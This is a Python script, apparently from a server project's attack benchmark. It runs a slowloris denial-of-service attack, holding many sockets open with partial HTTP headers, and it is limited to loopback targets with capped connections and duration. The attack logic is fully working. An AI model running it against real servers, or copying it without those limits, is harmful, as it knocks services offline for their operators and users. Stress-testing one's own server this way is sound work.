#!/usr/bin/env python3
"""A bounded slowloris attack for scripts/attack-bench.sh: CONNECTIONS sockets to a loopback
server, each sending a request head one small header line at a time, INTERVAL seconds apart,
never finishing it; a socket the server closes is opened again. Stops by itself after SECONDS.

    scripts/slowloris.py HOST:PORT [CONNECTIONS] [SECONDS] [INTERVAL]

Loopback addresses only. Prints one line: `SLOWLORIS opened=... closed_by_server=... seconds=...`.
"""

import ipaddress
import socket
import sys
import time
import selectors


def main() -> int:
    target = sys.argv[1]
    connections = int(sys.argv[2]) if len(sys.argv) > 2 else 300
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 10.0
    interval = float(sys.argv[4]) if len(sys.argv) > 4 else 1.0
    host, port = target.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        print(f"refusing {host}: loopback addresses only", file=sys.stderr)
        return 2
    connections = min(connections, 2000)
    seconds = min(seconds, 600.0)
    sel = selectors.DefaultSelector()
    socks = {}
    opened = closed = 0
    deadline = time.monotonic() + seconds

    def open_one(slot: int) -> None:
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((host, int(port)))
        except OSError:
            s.close()
            return
        opened += 1
        socks[slot] = (s, 0)
        sel.register(s, selectors.EVENT_READ, slot)

    for slot in range(connections):
        open_one(slot)
    next_tick = time.monotonic()
    while time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_tick:
            next_tick = now + interval
            for slot, (s, sent) in list(socks.items()):
                piece = b"POST / HTTP/1.1\r\nHost: %s\r\n" % target.encode() if sent == 0 else b"X-a%d: b\r\n" % sent
                try:
                    s.send(piece)
                    socks[slot] = (s, sent + 1)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    sel.unregister(s)
                    s.close()
                    del socks[slot]
                    closed += 1
                    open_one(slot)
        for key, _ in sel.select(timeout=max(0.0, min(next_tick, deadline) - time.monotonic())):
            slot = key.data
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                s.close()
                socks.pop(slot, None)
                closed += 1
                open_one(slot)
    for s, _ in socks.values():
        s.close()
    print(f"SLOWLORIS connections={connections} opened={opened} closed_by_server={closed} seconds={seconds:.0f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
